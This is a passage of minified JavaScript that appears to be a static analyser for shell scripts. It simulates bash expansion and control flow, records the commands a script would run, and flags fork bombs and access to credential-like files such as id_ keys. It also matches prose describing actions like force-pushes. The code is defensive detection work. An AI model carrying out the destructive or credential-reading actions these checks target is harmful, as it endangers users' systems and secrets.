interpreter.budget.spend(O_))return;let[s]=Li(`$((${t}))`,e.interpreter.budget)?.parts??[];if(s?.type!=="ArithmeticExpansion"||!s.expression)return;let r=Lc(s.expression,
e);return typeof r=="number"?r:void 0}function ji(t,{interpreter:e,scope:s,context:r}){let n=[t];for(let o=n.pop();o&&e.budget.spend();o=n.pop())"script"in o?e.
runSubstitution(o.script,s,r):Pn(o,i=>{n.push(i)})}function Lc(t,e){let s=n=>Lc(n,e),r=(n,o)=>{let i=n.type==="ArithmeticWord"?n.value:"";return/^[A-Za-z_]\w*$/.
test(i)&&e.scope.set(i,[R(String(o))]),o};switch(t.type){case"ArithmeticWord":return N_(t.value,e);case"ArithmeticGroup":return s(t.expression);case"ArithmeticU\
nary":{let n=s(t.operand);if(t.operator==="-")return qc("-",0,n);if(t.operator!=="++"&&t.operator!=="--")return"\uFFFC\uFFFB";let o=r(t.operand,qc(t.operator[0],
n,1));return t.prefix?o:n}case"ArithmeticBinary":{let n=s(t.right);if(t.operator==="=")return r(t.left,n);let[,o=t.operator]=/^([-+*/%&|^]|<<|>>)=$/.exec(t.operator)??
[],i=qc(o,s(t.left),n);return o===t.operator?i:r(t.left,i)}case"ArithmeticCommandExpansion":return"\uFFFC";default:return"\uFFFC\uFFFB"}}function N_(t,{scope:e}){
if(Oc.test(t))return Number(t);let[,s,r]=/^(?:(?:\$\{?)?([A-Za-z_]\w*)\}?|\$\{?(\d+)\}?)$/.exec(t)??[];if(s===void 0&&r===void 0)return"\uFFFC\uFFFB";let n=s===
void 0?e.arguments[Number(r)]?.text??"":e.value(s);return n.includes("\uFFFC")?je(n)?"\uFFFC\uFFFB":"\uFFFC":n.trim()===""||Oc.test(n.trim())?Number(n):"\uFFFC\uFFFB"}
function qc(t,e,s){if(typeof e!="number")return e;if(typeof s!="number")return s;let r=Object.hasOwn(Rh,t)?Rh[t](e,s):Number.NaN;return Number.isSafeInteger(r)?
r:"\uFFFC\uFFFB"}var Rh={"+":(t,e)=>t+e,"-":(t,e)=>t-e,"*":(t,e)=>t*e,"/":(t,e)=>Math.trunc(t/e),"%":(t,e)=>t%e,"<<":(t,e)=>e<0?Number.NaN:t*2**e,">>":(t,e)=>e<
0?Number.NaN:Math.floor(t/2**e),"&":(t,e)=>Number(BigInt(t)&BigInt(e)),"|":(t,e)=>Number(BigInt(t)|BigInt(e)),"^":(t,e)=>Number(BigInt(t)^BigInt(e))};gt();var{forms:Ih}=S,qh=512,L_=2e5,Oh=t=>/^\{-?\d{1,9}\.\.-?\d{1,9}(?:\.\.-?\d{1,6})?\}$/.test(t);function Dc(t){let e=[""];for(let s=0;s<t.length;){let r=t[s]==="{"?
D_(t,s):void 0,n=r?.end??Nh(t,s),o=r?r.alternatives:[t.slice(s,n)],i=e.length*(o?.length??0);if(o===void 0||i>qh||i*t.length>L_)return;e=e.flatMap(a=>o.map(l=>a+
l)),s=n}return e}function D_(t,e){let s=[],r=e+1,n=0;for(let o=r;o<t.length;o=Nh(t,o)){let i=t[o];if(i==="{"?n+=1:i==="}"&&n>0?n-=1:(i===","&&n===0||i==="}")&&(s.
push(t.slice(r,o)),r=o+1),i!=="}"||r!==o+1)continue;let a=s.length===1?W_(s[0]):j_(s);return a==="none"?void 0:{alternatives:a,end:r}}}function j_(t){let e=t.map(
Dc);return e.includes(void 0)?void 0:e.flat()}function W_(t){let e=/^(?:(-?\d{1,9})\.\.(-?\d{1,9})|([A-Za-z])\.\.([A-Za-z]))(?:\.\.-?(\d{1,6}))?$/.exec(t);if(!e)
return"none";let[,s="",r="",n,o,i="1"]=e,a=/^-?0\d/.test(s)||/^-?0\d/.test(r)?Math.max(s.length,r.length):0,[l,c]=n===void 0?[Number(s),Number(r)]:[n.charCodeAt(
0),o.charCodeAt(0)],d=Math.max(1,Number(i)),u=Math.floor(Math.abs(c-l)/d)+1;if(!(u>qh))return Array.from({length:u},(p,f)=>{let m=l+(l<=c?d:-d)*f,h=m<0?`-${String(
-m).padStart(a-1,"0")}`:String(m).padStart(a,"0");return n===void 0?h:String.fromCharCode(m)})}function Nh(t,e){return Ih.brace_literal.lastIndex=e,e+Ih.brace_literal.
exec(t)[0].length}var{forms:F_,uniqueMark:V_}=S;function Lh(t,e,s){let r=t.type==="ParameterExpansion"?t:void 0,n=r?.parameter??t.text.slice(1),o=r?.operation;if(r?.prefix==="!"&&
o?.type==="Names")return{words:[R("\uFFFC\uFFFB")],list:!1};let i=r?.prefix==="!"?e.scope.value(n):n,a={...e,name:i,expand:u=>s(u,e)},l=r?.index&&a.expand(r.index).
text,c=n==="@"||l==="@",d=U_(i,l,e);if(r?.prefix==="#"){let u=c||n==="*"||l==="*"?d.length:d[0]?.text.length,p=d.every(Ie)&&!Dh(a);return{words:[R(p?String(u??0):
"\uFFFC")],list:!1}}return o===void 0?{words:d,list:c}:o.type==="Default"?{words:H_(d,o,a),list:c}:o.type==="Slice"&&c?{words:[R("\uFFFC\uFFFB")],list:c}:{words:d.
map(({text:u})=>R(z_(u,o,a))),list:c}}function U_(t,e,{scope:s}){if(t==="@"||t==="*")return s.arguments.slice(1);if(t==="#")return[R(String(s.arguments.length-1))];
if(/^\d+$/.test(t))return s.arguments.slice(Number(t),Number(t)+1);let r=s.get(t);if(e===void 0)return r?r.words.slice(0,1):[R(s.value(t))];if(e==="@"||e==="*")
return r?.words??[R("\uFFFC")];let n=Number(e);if(!r||!Number.isInteger(n))return[R("\uFFFC")];let o=r.words.at(n);return o?[o]:[]}function H_(t,{operator:e,operand:s},{
name:r,scope:n,expand:o}){let i=t.length>0&&(t[0].text!==""||!e.includes(":")),a=n.get(r)!==void 0||t.every(Ie);if(e.endsWith("+"))return i?[o(s)]:[];let l=o(s);
if(e.endsWith("?")){if(e!==":?"||t.length!==1||t[0].text!=="\uFFFC")return t;let u=[R("\uFFFC\u2026")];return/^\w+$/.test(r)&&n.set(r,u),u}if(a?i:l.text==="")return t;
let c=F_.new_folder.test(l.text)?"\uFFFC":l.text.replaceAll(V_,"\uFFFC"),d=[a?l:R(c,l.glob)];return e.endsWith("=")&&/^\w+$/.test(r)&&n.set(r,d),d}var Dh=({name:t,
scope:e})=>/^(?:HOME|PWD|PATH|OLDPWD|SHELL|BASH)$/.test(t)&&!e.get(t);function B_(t,e,s){return e==="##"&&s==="*/"?"\uFFFC":e==="%"&&s==="/*"?`${t}/..`:e==="%"&&
s==="/"?t:"\uFFFC\uFFFB"}function z_(t,e,s){let{expand:r}=s,n=Dh(s),o=!n&&!t.includes("\uFFFC"),i=n?"\uFFFC\uFFFB":Lt(t);switch(e.type){case"Remove":{let a=r(e.
operand).text;return n?B_(t,e.operator,a):o?Y_(t,e.operator,a,s):i}case"Replace":{let a=r(e.pattern).text,l=r(e.replacement).text;if(!o||a==="")return o?t:i;let{
operator:c}=e,d=jh(t,a,!1,s);if(d===void 0)return Pe(a);let u=c==="/#"?`^(?:${d})`:c==="/%"?`(?:${d})$`:d;return t.replace(new RegExp(u,c==="//"?"g":""),()=>l)}case"\
Slice":{let a=r(e.offset).text,l=e.length&&r(e.length).text,c=Nc(a,s),d=l===void 0?void 0:Nc(l,s);if(n&&c===0&&d===1)return"/";if(!o)return i;if(c===void 0||l!==
void 0&&d===void 0)return Pe(a+(l??""));let u=c<0?t.length+c:c;return u<0?"":t.slice(u,d===void 0||d<0?d:u+d)}case"CaseModification":return o?e.operand?"\uFFFC\uFFFB":
K_(t,e.operator):i;default:return"\uFFFC\uFFFB"}}var G_=100,K_=(t,e)=>{let s=r=>e[0]==="^"?r.toUpperCase():r.toLowerCase();return e.length===2?s(t):s(t.slice(0,
1))+t.slice(1)};function jh(t,e,s,r){return r.interpreter.budget.spend(G_),t.length>128||e.includes("\uFFFC")?void 0:_i(e,s)}function Y_(t,e,s,r){let n=jh(t,s,e.
length===1,r);if(n===void 0)return Pe(s);if(e[0]==="#")return t.replace(new RegExp(`^(?:${n})`),"");let o=new RegExp(`^(?:${n})$`),i=Array.from({length:t.length+
1},(l,c)=>c),a=l=>o.test(t.slice(l));return t.slice(0,e==="%"?i.findLast(a):i.find(a))}var Q_=20;function jn(t,e){let s=X_(t,e),r=t.text.startsWith("~")?e.scope.value("HOME"):"~";return S.forms.temporary_file.test(r)?s.map(n=>({...n,text:n.text.replace(
/^~(?=\/|$)/,()=>r)})):s}function X_(t,e){if(!e.interpreter.budget.spend(1+(t.text.length>>6)))return[R("\uFFFC\uFFFB")];if(t.parts===void 0)return[{...R(t.value),
...t.text.startsWith("\uFFFC")&&{bare:!0}}];if(!t.parts.some(({type:r})=>r==="BraceExpansion"))return jc(t.parts,e,!1);let s=Dc(t.text);return e.interpreter.budget.
spend(2*(s?.length??0)+(t.text.length>>2)),s===void 0?Oh(t.text)?[R("1"),R("\uFFFC")]:[R("\uFFFC\uFFFB",!0)]:s.flatMap(r=>{if(/^[\w@%+=:,./-]*$/.test(r))return[
R(r)];let{budget:n}=e.interpreter,i=(n.spend(4)?Li(r,n)?.parts:void 0)?.filter(({type:a})=>a!=="BraceExpansion");return i?jc(i,e,!1):[R(r)]})}var Is=(t,e)=>t.parts===
void 0?R(t.value):Fc(t.parts,e);function Mc({value:t,index:e},s){return e&&Is(e,s),t.type==="ArrayValue"?t.elements.flatMap(r=>jn(r,s)):[Is(t,s)]}function Wh(t,e){
if(t.type==="Word")return jn(t,e);let s=Mc(t,e);t.value.type==="ArrayValue"&&e.scope.set(t.name,s);let{text:r,glob:n}=ie(s);return[R(`${t.name}${t.append?"+":""}\
=${r}`,n)]}function Fc(t,e){let{text:s,glob:r}=ie(jc(t,e,!0));return R(s,r||t.some(({type:n})=>n==="Glob"||n==="ExtendedGlob"))}function jc(t,e,s){let r=new Wc;
for(let n of t)Mh(n,e,r,s);return r.close(),r.done}var Wc=class{done=[];text;glob=!1;bare;add(e,s=!1){this.text=Ut(this.text??"",e),s&&(this.glob=!0)}split(e,s){
let r=0;for(let n=0;n<=e.length;n+=1){if(n<e.length&&!s.includes(e[n]))continue;let o=e.slice(r,n);o!==""&&this.add(o,/[*?[]/.test(o)),o.includes("\uFFFC")&&(this.
bare=!0),n<e.length&&this.close(),r=n+1}}close(){let{text:e,glob:s,bare:r}=this;e!==void 0&&this.done.push({text:e,glob:s,...we({bare:r})}),this.text=void 0,this.
glob=!1,this.bare=void 0}};function Mh(t,e,s,r){if(!e.interpreter.budget.spend()){s.add("\uFFFC");return}let n=(o,i)=>{e.interpreter.budget.spend(o.reduce((l,{text:c})=>l+
c.length,0)>>6),(r&&!i?[ie(o)]:o).forEach(({text:l,glob:c},d)=>{d>0&&s.close(),r?s.add(l,c):s.split(l,e.scope.value("IFS"))})};switch(t.type){case"Literal":case"\
SingleQuoted":case"AnsiCQuoted":s.add(t.value);break;case"Glob":case"ExtendedGlob":case"BraceExpansion":s.add(t.text,t.type!=="BraceExpansion");break;case"Doubl\
eQuoted":case"LocaleString":(t.parts.length!==1||!/^\$(@|\{@|\{\w+\[@\])/.test(t.parts[0].text))&&s.add("");for(let o of t.parts)Mh(o,e,s,!0);break;case"SimpleE\
xpansion":case"ParameterExpansion":{let{words:o,list:i}=Lh(t,e,Is);n(o,i);break}case"CommandExpansion":{let{interpreter:o,scope:i,context:a}=e,l=o.invocations.length,
c=o.runSubstitution(t.script,i,{...a,captured:!0}),d=c.includes("\uFFFC")?o.invocations.slice(l):[];o.substituted=[...o.substituted,...d].slice(-Q_),n([R(c.replace(
/\n+$/,""))],!1);break}case"ArithmeticExpansion":s.add(t.expression?Di(t.expression,e):"\uFFFC\uFFFB");break;case"ProcessSubstitution":s.add(J_(t,e));break;default:}}
function J_(t,e){let{interpreter:s,scope:r,context:n}=e,o=`/dev/fd/${63+s.sources.size}`,i=s.invocations.length,a={...n,captured:!0,isConcurrent:!0,isPiped:!1},
l=t.operator===">"?st(a,"\uFFFC\uFFFB",{kind:"pipe",from:[]}):a,c=s.runSubstitution(t.script,r,l);return t.operator!==">"&&s.sources.set(o,{text:c,from:s.invocations.
slice(i)}),o}var{forms:Uc}=S,Vc=32,Wi=class extends mi{list(e,s,r,n=!1){let o="",{needs:i}=r,a=!1;for(let{command:l,background:c}of e){if(!this.budget.spend())break;let d=this.
invocations.length,u={...r,...we({needs:i})},p=this.node(l,s,c?{...u,isConcurrent:!0}:u);if(o=Ut(o,p),!n)continue;a&&!c&&(i=[...i??[],...this.findSuccess(l,d)]);
let f=this.invocations.slice(d).filter(({program:h})=>Uc.changing_builtin.test(h)),m=l.type==="Command"&&f.length===1&&l.name?.value==="set";f.length>0&&(a=m&&Uc.
error_exit.test(ue(f[0])))}return o}node(e,s,r){return this.budget.descend(()=>{switch(e.type){case"Command":return s.hasAlternatives?this.alternatives(e,s,r):this.
command(e,s,r);case"Pipeline":return this.pipeline(e,s,r);case"AndOr":return this.andOr(e,s,r);case"CompoundList":return this.list(e.commands,s,r);case"Subshell":
return this.list(e.body.commands,s.copy(),r);case"BraceGroup":return this.list(e.body.commands,s,r);case"If":for(let{clause:n}of[e,...e.elif])this.list(n.commands,
s,r);return this.choice([e.then,...e.elif.map(({then:n})=>n)].concat(e.else??[]),s,r);case"Case":return this.inCase(e,s,r);case"For":case"Select":return this.forEach(
e,s,r);case"While":case"ArithmeticFor":if(yh(e,r.input)&&this.reportForkBomb({scope:s,context:r}),e.type==="While")return this.repeat(e,s,r);for(let n of[e.initialize,
e.test,e.update])n&&ji(n,this.site(s,r));return this.maybe(s,n=>this.list(e.body.commands,n,r));case"ArithmeticCommand":return e.expression&&Di(e.expression,this.
site(s,r)),"";case"TestCommand":return e.expression&&ji(e.expression,this.site(s,r)),"";case"Redirected":return this.redirected(e,s,r);case"Function":return s.define(
e.name.value,e.body),"";case"Coproc":return this.node(e.body,s.copy(),{...r,isConcurrent:!0});default:return e}},"\uFFFC")}pipeline({commands:e,prefixes:s},r,n){
let o=s.some(({type:l})=>l==="Time")?lr(n,"time"):n;if(e.length===1)return this.node(e[0],r,o);let i=this.invocations.length,a="";for(let[l,c]of e.entries()){let d=this.
invocations.slice(i);if(!this.budget.spend(1+(d.length>>4)))break;let u=l===0?o:st(o,a,{kind:"pipe",from:d});a=this.node(c,r.copy(),{...u,isConcurrent:!0,isPiped:l<
e.length-1})}return a}andOr({commands:e,operators:s},r,n){let o="",i=[r.copy()],{needs:a}=n;for(let[l,c]of e.entries()){if(!this.budget.spend())break;let d=this.
invocations.length,u=this.node(c,r,{...n,...we({needs:a})});s[l]==="||"?a=n.needs:s[l-1]!=="||"&&(a=[...a??[],...this.findSuccess(c,d)]),s[l-1]!=="||"?o+=u:o=o===
""||o===u?u:"\uFFFC",l<e.length-1&&!(s[l]==="&&"&&eS(c))&&i.push(r.copy())}for(let l of i.slice(1))r.join(l);return o}findSuccess(e,s){let[r,...n]=this.invocations.
slice(s),o=e.type==="Command"?e.name?.value:void 0,i=o===r?.path||o==="sudo"&&r?.wrappers.at(-1)==="sudo";return r&&i&&n.length===0?[r]:[]}choice(e,s,r){let n=e.
map(()=>s.copy()),o=e.map(({commands:i},a)=>this.list(i,n[a],r));for(let i of n)s.join(i);return o.every(i=>i==="")?"":"\uFFFC"}inCase(e,s,r){let n=this.site(s,
r);Is(e.word,n);for(let{pattern:i}of e.items)for(let a of i)Is(a,n);let o=e.items.map(({body:i})=>i);return this.choice(o,s,r)}forEach(e,s,r){let n=e.wordlist,i=[
s,...s.hasAlternatives&&n?s.listAlternatives(n):[]].flatMap(a=>n?n.flatMap(l=>jn(l,this.site(a,r))):a.arguments.slice(1));return this.maybe(s,a=>{let l="";for(let c of ls(
i,Vc)){if(!this.budget.spend())break;a.set(e.name.value,[c]),l=Ut(l,this.list(e.body.commands,a,r))}return i.length>Vc?Lt(l):l})}repeat(e,s,r){let n=s.copy(),o=r.
stdin?.remaining.replace(/\n$/,"").split(`
`)??[],i=Math.min(Vc,Math.max(2,o.length)),a="",l=c=>{this.list(e.clause.commands,s,c),a=Ut(a,this.list(e.body.commands,s,c))};for(let c=0;c<i&&this.budget.spend()&&
(l(r),!(r.stdin?.remaining===""||s.same(n)));c+=1);if(r.stdin?.remaining&&!s.same(n)){let c=r.stdin.readRest().split(`
`).filter(Boolean),[d]=ls($e(c),0);d&&l(st(r,d.text,r.input))}return s.join(n),a===""?"":Lt(a)}maybe(e,s){let r=e.copy(),n=s(e);return e.join(r),n}redirected({command:e,
redirects:s},r,n){let o=this.site(r,n),i=this.redirect(s,o),a=this.invocations.length,l=this.node(e,r,i);return this.invocations.length===a&&s.length>0&&this.run(
[R(":")],r,i,!1),this.settle(l,i,n,r)}alternatives(e,s,r){let n=e.redirects.map(l=>"target"in l?l.target:void 0),o=s.listAlternatives([e.name,...e.args,...e.prefix,
...n]),i=r.stdin?.remaining,a=this.command(e,s,r);for(let l of o){if(!this.budget.spend(4))break;if(this.command(e,l,i===void 0?r:st(r,i,r.input)),!e.name)for(let{
name:c}of e.prefix.filter(d=>d.type==="Assignment"))s.mayBe(c,l.get(c)?.words??[])}return a}command(e,s,r){let n=this.site(s,r),o=e.prefix.filter(m=>m.type==="A\
ssignment");Z_(e)&&this.budget.fail("too-much","a substitution behind an assignment is not followed");let i=this.invocations.length,a=o.map(m=>({assignment:m,words:Mc(
m,n)})),c=[...e.name?jn(e.name,n):[],...e.args.flatMap(m=>Wh(m,n))],d=this.redirect(e.redirects,n);if(c.length===0){for(let{assignment:g,words:y}of a)s.assign(g,
y);d.redirects.length>r.redirects.length&&this.run([R(":")],s,d,!1),this.reportEmptied(d,s);let h=(d.stdin!==r.stdin?d.stdin?.readRest():void 0)??(this.invocations.
length>i&&e.name?"\uFFFC":"");return this.settle(h,d,r,s)}let u={...r.environment};for(let{assignment:m,words:h}of a)u[m.name]=h[0]??R("");let p=e.name?.parts===
void 0&&e.name?.text===e.name?.value;c.length===1&&/^(?::|true)$/.test(c[0].text)&&this.reportEmptied(d,s);let f=this.run(c,s,{...d,environment:u},p);return s.last=
c.at(-1).text,this.settle(f,d,r,s)}reportEmptied({redirects:e,...s},r){let n=e.flatMap(({kind:i,path:a})=>i==="write"&&a.glob?[a]:[]),o=[...$e(["truncate","-s",
"0"]),...n];n.length>0&&this.run(o,r,{...s,redirects:[]},!1)}redirect(e,s){let r=s.context;for(let n of e){if(!this.budget.spend(1+(r.redirects.length>>3)))break;
if(n.type==="HereDoc"){let{body:o}=n,i=o.parts?Fc(o.parts,s).text:o.text;r=Fh(r,n.operator==="<<-"?i.replace(/^\t+/gm,""):i)}else{if(n.target===void 0)continue;
n.type==="HereString"?r=Fh(r,`${Is(n.target,s).text}
`):r=this.redirectedTo(n,n.target,s,r)}}return r}redirectedTo({operator:e,descriptor:s},r,n,o){let i=Is(r,n);if(/^[<>]&$/.test(e)&&/^(\d+-?|-)$/.test(i.text))return o;
let a=/^<&?$/.test(e)?"read":e.endsWith(">>")?"append":"write",l={...o,redirects:[...o.redirects,{kind:a,path:i}]},c=a==="read"?0:1,d=s?.type==="FileDescriptor"?
s.value===c:s===void 0;if(a!=="read")return d?{...l,outputFile:{kind:a,path:i}}:l;let u=this.sources.get(i.text);if(u)return st(l,u.text,{kind:"pipe",from:u.from});
let p=this.files.written(i.text,n.scope.folder)?.text??"\uFFFC";return d?st(l,p,{kind:"file",path:i}):l}settle(e,s,r,n){let o=s.outputFile;if(o===void 0||o===r.
outputFile)return e;let i=[...de(s),...this.invocations.slice(-1)];return this.files[o.kind](o.path.text,e,n.folder,e.includes("\uFFFC")?i:[]),""}site(e,s){return{
interpreter:this,scope:e,context:s}}},Z_=({prefix:t,name:e,args:s})=>{let r=[...t,...e?[e]:[],...s],n=new Set(r.flatMap(({type:o,end:i})=>o==="Assignment"?[i]:[]));
return r.some(({type:o,pos:i})=>o==="Word"&&n.has(i))},Fh=(t,e)=>st(t,e,{kind:"text",text:e}),eS=t=>t.type==="Function"||t.type==="Command"&&(t.name===void 0||Uc.
reliable_command.test(`${t.name.value} ${t.args[0]?.value??""}`));var tS=3,sS=hi({...Eh,...Dm,..._h,...Km,...Mm,...Bm,git:xm});function Mi(t,e={}){let{folder:s,files:r=new Or,readCode:n}=e,o=new Hc(r,n),i=new bi(o.budget);i.folder=
s;try{o.runScript(t,i,{wrappers:[],redirects:[],environment:{},isConcurrent:!1})}catch(c){if(!(c instanceof RangeError))throw c;o.budget.fail("too-deep",`cannot\
 be parsed: ${c.message}`)}let{invocations:a,budget:l}=o;return l.problem?{invocations:a,problem:l.problem}:{invocations:a}}var Hc=class extends Wi{bodies=[];runScript(e,s,r){
return je(e)&&this.budget.fail("too-much","it runs code that cannot be read to its end"),e.replaceAll("\uFFFC","").trim()===""?"\uFFFC":this.budget.descend(()=>{
let n=Rc(e,this.budget);return n?this.list(n.commands,s,r,!0):"\uFFFC"},"\uFFFC")}runSubstitution(e,s,r){return e?this.budget.descend(()=>{Ic(e,this.budget);let n={
...r,redirects:[],environment:{},isPiped:!1};return this.list(e.commands,s.copy(),n)},"\uFFFC"):"\uFFFC"}run(e,s,r,n){let o=e[0].text,i=[],a=n?s.aliases.get(o)??
[]:[];for(let c of a){let d=s.copy();d.aliases.delete(o),i.push(this.runScript(`${c} ${Mr(e.slice(1))}`,d,r))}let l=s.functions.get(o);for(let c of l?.bodies??[])
i.push(this.call(c,e,s,r));return l?.certain||i.push(this.runWords(e,s,r)),i.length===1?i[0]:"\uFFFC"}call(e,s,r,n){let o=this.bodies.filter(u=>u===e).length,i=o>
0&&n.isConcurrent;if(i&&this.reportForkBomb({scope:r,context:n}),i||o>=tS)return"\uFFFC";this.bodies.push(e);let a=r.arguments;r.arguments=[a[0]??R("bash"),...s.
slice(1)];let l=r.copy(),c=this.invocations.length,d=this.node(e,r,{...n,isConcurrent:!1});return this.invocations.slice(c).some(({program:u})=>u==="return")&&r.
join(l),r.arguments=a,this.bodies.pop(),d}runWords(e,s,r){let[n]=e;if(n===void 0)return"";if(n.text.startsWith("-")&&r.wrappers.at(-1)==="time"){let o=r.wrappers.
slice(0,-1);return this.runWords([R("time"),...e],s,{...r,wrappers:o})}return this.budget.descend(()=>{let o=new _n(this,s,r,e);Om(o),Am(o);let i=sS.get(o.program);
return i?i(o):vi(o)??Xm(o)??Lm(o)??o.record()},"\uFFFC")}addInvocation(e){return this.record(e.createInvocation()),wi(e)}};function Gc(t){if(t==="credential")return s=>/[./~]|id_/.test(s)&&!/[*'’]/.test(s)&&ci(s.toLowerCase());let e=new RegExp(S.objectClasses.get(t)??"(?!)","i");return s=>e.
test(s)}function rS(t){let s=t.endsWith("e")&&!t.endsWith("ee")?t.slice(0,-1):S.sentences.doubled.has(t)?t+t.at(-1):t,r=/(?:s|x|z|ch|sh)$/.test(t),n=/[^aeiou]y$/.
test(t),o=r?`${t}es`:n?`${t.slice(0,-1)}ies`:`${t}s`;return{[S.irregularVerbs.get(t)??(n?`${t.slice(0,-1)}ied`:`${s}ed`)]:"past",[`${s}ing`]:"ing",[o]:"third",[t]:"\
base"}}var Vh=24,nS=40,oS=3;function Uh(t){let e=new Map;for(let s of t)for(let r of s.phrases)for(let n of r.verbs){let[o,...i]=n.split(" ");for(let[a,l]of Object.
entries(rS(o)))e.set(a,[...e.get(a)??[],{form:l,rest:i,rule:s,phrase:r}])}return e}var iS=Se(({objects:t,with:e,without:s})=>({objects:t.length===0?void 0:Bc(t),
with:e&&Bc(e),without:Bc(s??[])}),new WeakMap);function Bc(t){let e=s=>/^<[^ ]*>(?: |$)|^[^ ]+\*(?: |$)/.test(s)?1:0;return[...t].sort((s,r)=>e(s)-e(r)).map(s=>s.
split(" ").map(aS))}function aS(t){let e=/^<([\w-]+)>$/.exec(t)?.[1];if(e!==void 0)return lS(e);let s=t.length>1&&t.endsWith("*")?t.slice(0,-1):void 0;return({text:r})=>s===
void 0?r===t:r.startsWith(s)}var lS=Se(t=>{let e=Gc(t);return Se(({text:s,kind:r})=>s.length<1e3&&(r==="plain"?e(s.replace(/[.,'"]{1,4}$|^['"]{1,4}/g,"")):e(s)||
s.split(/\s+/).some(e)),new WeakMap)});function Kc(t,e,s=0){let r=cS(e),n=[];for(let[o,i]of r.entries()){if(i.kind!=="plain")continue;let a=new Set;for(let l of t.
get(i.text)??[])a.has(l.rule)||s>=(l.phrase.trust??Number.POSITIVE_INFINITY)||dS(r,o,l)&&(a.add(l.rule),n.push({rule:l.rule,form:l.form,at:o}))}return n}function cS(t){
return t.map((e,s)=>{let r=t[s+1];return e.text==="force"&&r?.kind==="plain"&&/^push/.test(r.text)&&e.stop===void 0?{...e,text:`force-${r.text}`}:e})}function dS(t,e,{
form:s,rest:r,phrase:n}){let o=e;for(let p of r){let f=t.slice(o+1,e+7).findIndex(m=>m.text===p);if(f<0)return!1;o+=1+f}let{objects:i,with:a,without:l}=iS(n),c=s===
"past"?Math.max(0,e-Vh):e+1,d=s==="past"?e:uS(t,c);if(a&&zc(t,a,c,Math.min(t.length,e+nS))<0)return!1;let u=i?zc(t,i,c,d):o;return u<0?!1:zc(t,l,c,Math.min(d,Math.
max(o,u)+1+oS))<0}function uS(t,e){let s=Math.min(t.length,e+Vh);for(let r=e;r<s;r++){let{stop:n,text:o}=t[r];if(r>e&&(o==="then"||o==="because"||o==="but"))return r;
if(n===";"||n==="\u2014")return r+1}return s}function zc(t,e,s,r){for(let n=s;n<r;n++){let o=e.find(i=>n+i.length<=r&&i.every((a,l)=>a(t[n+l])));if(o)return n+o.
length-1}return-1}var{forms:gs}=S,it=({text:t,kind:e})=>e==="plain"?t:"\uFFFC",pS=60,fS=(t,e)=>t.trim().length<pS&&new RegExp("^\\s*\\p{Lu}","u").test(e);function Hh(t){let e=[],
s,r=!1,n=!1,o="",i=()=>{if(s)for(let l of mS(t,s.start,s.end,r,n))e.push({kind:"sentence",sentence:l});s=void 0},a=(l,c)=>{let d=t.indexOf(l,c);return d<0?t.length:
d};for(let l=0;l<t.length;){let c=a(`
`,l),d=t.slice(l,c),u=gs.code_fence.exec(d);if(u){i();let m=a(`
${u[1]}`,c);e.push({kind:"fence",language:u[2].toLowerCase(),code:t.slice(c+1,m)}),l=a(`
`,m+1)+1;continue}let p=gs.prompt.exec(d),f=gs.list_item.exec(d)??gs.heading.exec(d);p?(i(),e.push({kind:"prompt",command:d.slice(p[0].length)})):d.trim()===""?
i():f||!s||fS(o,d)?(i(),n=gs.heading.test(d),r=f!==null&&!n,s={start:l+(f?.[0].length??0),end:c},n&&i()):s.end=c,s&&/[:.!?]\s*$/.test(d)&&i(),o=d,l=c+1}return i(),
e}function mS(t,e,s,r,n){let o=[],i=[],a=l=>{i.length>0&&o.push({words:i,question:l,leads:i.at(-1).stop===":",item:r,heading:n}),i=[]};gs.text_word.lastIndex=e;
for(let l=gs.text_word.exec(t);l&&l.index<s;l=gs.text_word.exec(t)){let c=l.index,d=gs.text_word.lastIndex,u=l[2],p=l[3]??l[4];if(u!==void 0||p!==void 0){i.push(
{start:c,end:d,text:u??p,kind:u===void 0?"quoted":"code"}),t[d]==="."&&/\s|$/.test(t[d+1]??" ")&&a(!1);continue}let f=l[0];if(/^[,;:()!?—]$/u.test(f)){let g=i.
at(-1);g&&(g.stop=f),(f==="!"||f==="?")&&a(f==="?");continue}let m=/[.…]+$/.test(f)&&!/^(?:\.+|e\.g\.|i\.e\.|etc\.|vs\.)$/i.test(f),h=f.toLowerCase().replace(
/’/g,"'").replace(/^[*_[\]{}<>]+|[*_[\]{}<>]+$/g,"").replace(/(?<=.)[.…]+$/,"");h!==""&&i.push({start:c,end:d,text:h,kind:"plain"}),m&&a(!1)}return a(!1),o}var{forms:Fi}=S,ze=S.sentences,Yc=24;function Gh({words:t,question:e}){let s=Kh(t.slice(0,4));return e?!/^(?:(?:ok|okay|so|and|hey|hi|please|now|then)[ ]?)*(?:can|could|would|will|please|mind)\b/.
test(s):/^(?:how|why|what(?! (?:we|i) (?:will|need))) /.test(s)}var Kh=t=>t.map(({text:e})=>e).join(" ");function Yh({words:t}){return t.map(it).some(e=>ze.denials.
has(e)||ze.mentions.has(e))}function Vi(t,e,s){let{words:r}=t,n=hS(r,e),o=r.slice(n,e);if(bS(r,n,e,s))return!1;if(s==="third")return zh(r,e);if(s==="past")return Fi.
obligation.test(Kh(o.slice(-6)));if(o.length===0&&/^(?:and|&)$/.test(r[e-1]?.text??""))return gS(r,e-1);let i=o.map(it),a=i.findLastIndex((p,f)=>ze.speech_verbs.
has(p)&&yS(i,f));if(a>=0&&!Fi.own_announcement.test(i.slice(a+1).join(" "))||/\bhow to$|\bwhen$|\bbefore$|\bif (?:i|we|you|they)$|\bafter$|\bwhile$|\bwhether to$/.
test(i.join(" ")))return!1;let l=i.findLastIndex(p=>!ze.between.has(p)&&!/ly$/.test(p)),c=i.slice(Math.max(0,l-7),l+1).join(" "),d=Fi.announcement.test(c);return s===
"ing"?d&&/(?:by|i am|i'm|we are|we're|currently|now|start|starting)$/.test(c)||i.every(p=>ze.before_order.has(p))&&!Bh(r,e):d&&!/(?:by|i am|i'm|we are|we're|currently)$/.
test(c)||zh(r,e)?!0:i.every(p=>ze.before_order.has(p)||/ly$|^\d+[.)]?$/.test(p))&&!Bh(r,e)}function hS(t,e){for(let s=e;s>Math.max(0,e-Yc);s--){let{stop:r,text:n}=t[s-
1],o=it(t[s-1]),i=/^(?:then|but|so|afterwards)$/.test(o)&&!/^(?:we|i)$/.test(t[s].text),a=s===e&&/^(?:and|&)$/.test(o);if(r!==void 0||i||a||/^(?:->|[→–-])$/.
test(n))return s}return Math.max(0,e-Yc)}function gS(t,e){let s=t.slice(Math.max(0,e-Yc),e),r=s.slice(s.findLastIndex(({stop:a})=>a!==void 0)+1).map(it),n=(a,l)=>a!==
